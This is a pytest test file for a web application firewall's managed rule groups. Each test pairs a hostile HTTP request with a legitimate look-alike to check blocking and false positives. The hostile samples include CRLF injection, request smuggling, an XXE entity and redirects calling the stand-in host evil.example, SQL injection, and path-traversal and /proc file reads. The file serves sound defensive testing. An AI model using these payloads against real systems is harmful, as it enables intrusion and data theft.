"""Protocol, multipart, RFI/LFI and header-injection rules: each blocks its attack class and passes
the legitimate request that looks most like it."""

from __future__ import annotations

import functools
import json
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assetguard.waf.engine import compile_acl
from assetguard.waf.request import HttpRequest

BROWSER = [
    ["Host", "app.example.com"],
    [
        "User-Agent",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
    ],
    ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
    ["Accept-Encoding", "gzip, deflate, br"],
]
BOUNDARY = "----WebKitFormBoundaryq2Xz7tGm"


@functools.cache
def _acl(group: str) -> Any:
    vendor = "AssetGuard" if group.startswith("AssetGuard") else "AWS"
    visibility = {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": "t"}
    return compile_acl(
        {
            "Name": "t",
            "DefaultAction": {"Allow": {}},
            "VisibilityConfig": visibility,
            "Rules": [
                {
                    "Name": group,
                    "Priority": 0,
                    "Statement": {"ManagedRuleGroupStatement": {"VendorName": vendor, "Name": group}},
                    "OverrideAction": {"None": {}},
                    "VisibilityConfig": visibility,
                }
            ],
        }
    )


def _request(
    uri: str = "/content", headers: list[list[str]] | None = None, body: str | None = None, ctype: str = ""
) -> HttpRequest:
    names = {h[0].lower() for h in headers or []}
    base = [h for h in BROWSER if h[0].lower() not in names]
    rec: dict[str, Any] = {"method": "GET", "uri": uri, "headers": [*base, *(headers or [])]}
    if body is not None:
        rec["method"] = "POST"
        rec["body"] = body
        rec["headers"].append(["Content-Type", ctype or "application/x-www-form-urlencoded"])
        rec["headers"].append(["Content-Length", str(len(body.encode()))])
    return HttpRequest.from_jsonl_record(rec)


def _part(headers: str, value: str) -> str:
    return f"--{BOUNDARY}\r\n{headers}\r\n\r\n{value}\r\n"


def _multipart(*parts: str) -> tuple[str, str]:
    return "".join(parts) + f"--{BOUNDARY}--\r\n", f"multipart/form-data; boundary={BOUNDARY}"


def _mp_request(*parts: str) -> HttpRequest:
    body, ctype = _multipart(*parts)
    return _request("/content", body=body, ctype=ctype)


# A JSON filter document sent as one query argument (about 600 bytes; CRS's example limit is 400).
_FILTER_DOC = {
    "$and": [{"status": {"in": ["open", "pending", "waiting-for-customer"]}},
             {"created": {"gte": "2026-01-01T00:00:00Z", "lt": "2026-12-31T23:59:59Z"}}],
    "fields": ["id", "title", "status", "created", "updated", "assignee", "priority", "labels"],
    "sort": [{"priority": "desc"}, {"updated": "desc"}],
    "page": {"size": 50, "after": "eyJpZCI6IjY0ZjFjMmE5ZTEzYjVjMDAxMmFiMzRjZCIsInVwZGF0ZWQiOiIyMDI2LTExLTMwIn0"},
    "include": {"assignee": ["name", "email"], "labels": ["name", "color"]},
}
PROTO = "AssetGuardProtocolRuleSet"
INJ = "AssetGuardInjectionRuleSet"
CORE = "AWSManagedRulesCommonRuleSet"
LINUX = "AWSManagedRulesLinuxRuleSet"
FIELD = 'Content-Disposition: form-data; name="comment"'

# (group, rule, attack request, legitimate look-alike)
CASES: list[tuple[str, str, HttpRequest, HttpRequest]] = [
    (
        PROTO,
        "MultipartCharset_BODY",
        _mp_request(_part(FIELD + "\r\nContent-Type: text/plain; charset=UTF-16BE", "hi")),
        _mp_request(_part(FIELD + "\r\nContent-Type: text/plain; charset=utf-8", "hi")),
    ),
    (
        PROTO,
        "MultipartCharset_BODY",
        _mp_request(_part('Content-Disposition: form-data; name="_charset_"', "ibm037"), _part(FIELD, "x")),
        _mp_request(_part('Content-Disposition: form-data; name="_charset_"', "UTF-8"), _part(FIELD, "x")),
    ),
    (
        PROTO,
        "MultipartTransferEncoding_BODY",
        _mp_request(_part(FIELD + "\r\nContent-Transfer-Encoding: quoted-printable", "a=3Db")),
        _mp_request(_part(FIELD, "Content-Transfer-Encoding: base64 is an e-mail header")),
    ),
    (
        PROTO,
        "MultipartFieldName_BODY",
        _mp_request(_part('Content-Disposition: form-data; name="title;x"', "t")),
        _mp_request(_part('Content-Disposition: form-data; name="stra&szlig;e"', "t")),
    ),
    (
        PROTO,
        "MultipartFieldName_BODY",
        _mp_request(_part('Content-Disposition: form-data; name="f"; filename="a.p\\h\\p"', "t")),
        _mp_request(_part('Content-Disposition: form-data; name="f"; filename="Kevin\'s notes.txt"', "t")),
    ),
    (
        PROTO,
        "CharsetNotAllowed_HEADER",
        _request(headers=[["Accept", "text/html; charset=utf-7"]]),
        _request(headers=[["Accept", "text/html; charset=UTF-8"]]),
    ),
    (
        PROTO,
        "ContentTypeSyntax_HEADER",
        _request(body="a=1", ctype="application/x-www-form-urlencoded; oops"),
        _request(body="a=1", ctype="application/x-www-form-urlencoded; charset=utf-8"),
    ),
    (
        PROTO,
        "AcceptEncodingNotAllowed_HEADER",
        _request(headers=[["Accept-Encoding", "gzip, x-evil"]]),
        _request(headers=[["Accept-Encoding", "gzip;q=1.0, identity; q=0.5, *;q=0"]]),
    ),
    (
        PROTO,
        "RangeAbuse_HEADER",
        _request("/static/app.js", headers=[["Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"]]),
        _request("/static/manual.pdf", headers=[["Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"]]),
    ),
    (
        PROTO,
        "LegacyCookieSyntax_HEADER",
        _request(headers=[["Cookie", '$Version=1; session="a; admin=1"']]),
        _request(headers=[["Cookie", "price=$5; session=abc"]]),
    ),
    (
        PROTO,
        "InvalidUTF8_QUERYSTRING",
        _request("/content?q=%C0%AE%C0%AE"),
        _request("/content?q=caf%C3%A9%20cr%C3%A8me"),
    ),
    (
        PROTO,
        "DoubleEncoding_QUERYSTRING",
        _request("/content?file=%252e%252e%252f"),
        _request("/content?q=50%25%20off"),
    ),
    (
        PROTO,
        "InvalidEncoding_BODY",
        _request(body="q=abc%zz"),
        _request(body="q=100%25+sure"),
    ),
    (
        PROTO,
        "ControlCharacters_QUERYSTRING",
        _request("/content?q=a%07b"),
        _request("/content?q=tab%09separated"),
    ),
    (
        PROTO,
        "MalformedArrayName_QUERYSTRING",
        _request("/content?ids[0]x=1"),
        _request("/content?ids[]=1&ids[]=2&filter[name]=x"),
    ),
    (
        PROTO,
        "MethodOverride_BODY",
        _request(body="_method=DELETE&id=4"),
        _request(body="method=delete+me&id=4"),
    ),
    (
        PROTO,
        "BackupFile_URIPATH",
        _request("/index.php~/x"),
        _request("/~alice/index.php"),
    ),
    (
        INJ,
        "CRLFInjection_HEADER",
        _request(headers=[["X-Note", "a%0d%0aX-Admin: 1"]]),
        _request(headers=[["X-Note", "a%20b: c"]]),
    ),
    (
        INJ,
        "HTTPSmuggling_BODY",
        _request(body="zzPOST /admin HTTP/1.1\r\nHost: internal\r\n\r\n", ctype="text/plain"),
        _request(body="Send POST /admin with HTTP/1.1 semantics", ctype="text/plain"),
    ),
    (
        INJ,
        "XXE_HEADER",
        _request(headers=[["X-Data", "<!ENTITY % ext SYSTEM 'http://evil.example/x'>"]]),
        _request(headers=[["X-Data", "system entity docs"]]),
    ),
    (
        INJ,
        "RemoteFileInclusion_QUERYARGUMENTS",
        _request("/content?page=gopher://10.0.0.1:70/_x"),
        _request("/content?q=gopher+protocol+history"),
    ),
    (
        INJ,
        "RemoteFileInclusion_QUERYARGUMENTS",
        _request("/content?next=https://app.example.com%2f@evil.example/"),
        _request("/content?next=https://app.example.com/account"),
    ),
    (
        INJ,
        "SQLi_QUERYSTRING",
        _request("/content?id%27%20or%20%271%27%3D%271=x"),
        _request("/user/products?$filter=contains(Name,'lamp')%20or%20startswith(Name,'desk')&$top=50"),
    ),
    (
        PROTO,
        "LongArgument_QUERYARGUMENTS",
        _request("/content?q=" + "a" * 1025),
        _request("/content?filter=" + quote(json.dumps(_FILTER_DOC))),
    ),
    (
        CORE,
        "GenericLFI_BODY",
        _mp_request(_part('Content-Disposition: form-data; name="f"; filename="../../app.cfg"', "x")),
        _mp_request(_part('Content-Disposition: form-data; name="f"; filename="notes..final.txt"', "x")),
    ),
    (
        LINUX,
        "LFI_HEADER",
        _request(headers=[["User-Agent", "/proc/sys/kernel/hostname"]]),
        _request(headers=[["User-Agent", "procsys/1.0 (kernel tools)"]]),
    ),
]
IDS = [f"{g}/{r}" for g, r, _, _ in CASES]


@pytest.mark.parametrize(("group", "rule", "attack", "legit"), CASES, ids=IDS)
def test_rule_blocks_attack(group: str, rule: str, attack: HttpRequest, legit: HttpRequest) -> None:
    verdict = _acl(group).evaluate(attack)
    assert verdict.action == "BLOCK"
    assert verdict.group_rule_id == rule


@pytest.mark.parametrize(("group", "rule", "attack", "legit"), CASES, ids=IDS)
def test_look_alike_passes(group: str, rule: str, attack: HttpRequest, legit: HttpRequest) -> None:
    verdict = _acl(group).evaluate(legit)
    assert verdict.action == "ALLOW", verdict.group_rule_id


def _coding_list_grammar(text: str) -> bool:
    """The Accept-Encoding allow-list read item by item (the reference for the one-regex form):
    known codings, each with an optional ``;q=`` weight, separated by commas, one trailing comma
    allowed, white space around items."""
    import re

    from assetguard.waf.managed.groups.patterns_proto import ENCODINGS

    weight = re.compile(r"\s*;\s*q\s*=\s*[01](?:\.\d{0,3})?")
    body = text[:-1] if text.endswith("\n") else text  # '$' also matches before a final newline
    items = body.split(",")
    if len(items) > 1 and items[-1].strip() == "":
        items = items[:-1]  # one trailing comma
    for item in items:
        item = item.strip(" \t\n\r\f\v")
        name = next((e for e in sorted(ENCODINGS, key=len, reverse=True) if item.startswith(e)), None)
        if name is None:
            return False
        rest = item[len(name):]
        if rest and weight.fullmatch(rest) is None:
            return False
    return True


_CODING_PIECES = ["gzip", "deflate", "br", "zstd", "identity", "*", "x-gzip", "pack200-gzip", ",", ", ", " ",
                  "\t", "\n", ";q=0.5", "; q = 1", ";q=0.", ";q=1.000", ";q=2", "x", ";", "\r"]


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(_CODING_PIECES), max_size=7).map("".join))
def test_accept_encoding_pattern_is_the_coding_list_grammar(text: str) -> None:
    import re

    from assetguard.waf.managed.groups.patterns_proto import PROTO

    assert (re.search(PROTO["accept_encoding_ok"], text) is not None) is _coding_list_grammar(text)


def test_accept_encoding_pattern_compiles_for_hyperscan() -> None:
    hyperscan = pytest.importorskip("hyperscan")
    from assetguard.waf.managed.groups.patterns_proto import PROTO
    from assetguard.waf.prefilter import per_line

    db = hyperscan.Database()
    db.compile(expressions=[per_line(PROTO["accept_encoding_ok"]).encode()], ids=[0],
               flags=[hyperscan.HS_FLAG_PREFILTER | hyperscan.HS_FLAG_SINGLEMATCH | hyperscan.HS_FLAG_MULTILINE])
